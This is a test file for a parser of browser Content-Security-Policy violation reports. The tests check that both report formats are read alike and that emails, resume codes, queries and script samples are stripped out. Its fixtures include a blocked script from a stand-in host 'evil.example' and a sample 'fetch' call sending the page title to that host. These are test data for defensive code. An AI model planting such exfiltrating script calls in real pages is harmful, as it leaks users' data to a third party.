import { violationsIn } from './csp-reports.js';

const older = {
  'csp-report': {
    'document-uri': 'https://www.example.com/be-en/appointment/resume/7K3M2QXV9RTD?email=ada@example.com',
    'violated-directive': "script-src 'nonce-x'",
    'effective-directive': 'script-src-elem',
    'blocked-uri': 'https://evil.example/steal.js?of=ada@example.com',
    'script-sample': 'fetch("//evil.example/" + document.title)',
    referrer: 'https://mail.example/inbox/ada',
  },
};
const newer = [
  {
    type: 'csp-violation',
    url: older['csp-report']['document-uri'],
    user_agent: 'Mozilla/5.0',
    body: {
      documentURL: older['csp-report']['document-uri'],
      effectiveDirective: 'script-src-elem',
      blockedURL: 'https://evil.example/steal.js?of=ada@example.com',
      sample: 'Ada',
    },
  },
  { type: 'deprecation', body: { documentURL: 'https://www.example.com/' } },
];
const read = (body: unknown) => violationsIn(body, ['www.example.com']);

it('reads both formats alike, and keeps no code, name, query or sample of them', () => {
  const violation = {
    page: '/be-en/appointment/resume/{code}',
    directive: 'script-src-elem',
    blocked: 'https://evil.example',
  };
  expect(read(older)).toEqual([violation]);
  expect(read(newer)).toEqual([violation]);
});

it.each([
  ['inline', 'inline'],
  ['chrome-extension://abcdef/page.js', 'chrome-extension:'],
  ['data:text/html,Ada', 'data:'],
  ['ada@example.com', 'other'],
  ['', 'other'],
])('says of %j that %j was blocked', (uri, blocked) => {
  const [violation] = read({ 'csp-report': { ...older['csp-report'], 'blocked-uri': uri } });
  expect(violation?.blocked).toBe(blocked);
});

it('calls a directive that there is none of by one name', () => {
  const report = { ...older['csp-report'], 'effective-directive': 'ada@example.com' };
  expect(read({ 'csp-report': report })[0]?.directive).toBe('other');
});

it('hears nothing of pages of others, nor of whatever else is sent', () => {
  expect(violationsIn(older, ['other.example', undefined])).toEqual([]);
  for (const body of [{}, [], [null, 1, 'x'], { 'csp-report': [] }, { 'csp-report': { 'document-uri': 5 } }, null, 'x'])
    expect(read(body)).toEqual([]);
});

it('reads no more of a body than a page can have refused', () => {
  expect(read(Array.from({ length: 500 }, () => newer[0]))).toHaveLength(20);
});
